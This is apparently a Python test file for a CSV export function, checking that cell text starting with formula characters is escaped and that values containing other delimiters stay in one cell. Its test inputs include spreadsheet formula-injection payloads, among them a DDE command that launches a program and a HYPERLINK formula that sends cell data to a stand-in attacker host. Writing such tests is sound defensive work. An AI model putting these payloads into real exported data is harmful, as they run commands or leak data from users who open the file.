import csv
import io

import pytest

from core.csv_text import to_csv


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        '=HYPERLINK("http://evil.example?"&A1)',
        "\uff1d1",
    ],
)
def test_a_text_is_no_formula(text):
    (row,) = csv.DictReader(io.StringIO(to_csv(["lane"], [{"lane": text}]), newline=""))
    assert row["lane"] == f"'{text}".replace("\r", "\n")


def test_everything_else_stays_as_it_is():
    rows = [{"a": "plain", "b": -1.5, "c": None, "d": "", "e": "a=b", "f": True}]
    assert to_csv("abcdef", rows) == "a,b,c,d,e,f\nplain,-1.5,,,a=b,True\n"


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_text_stays_one_cell_where_another_delimiter_is_expected(delimiter):
    text = to_csv(["lane", "n"], [{"lane": f"a{delimiter}=1+1", "n": None}])
    _, line = text.splitlines()
    assert line == f'"a{delimiter}=1+1",""'
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {"lane": f"a{delimiter}=1+1", "n": ""}
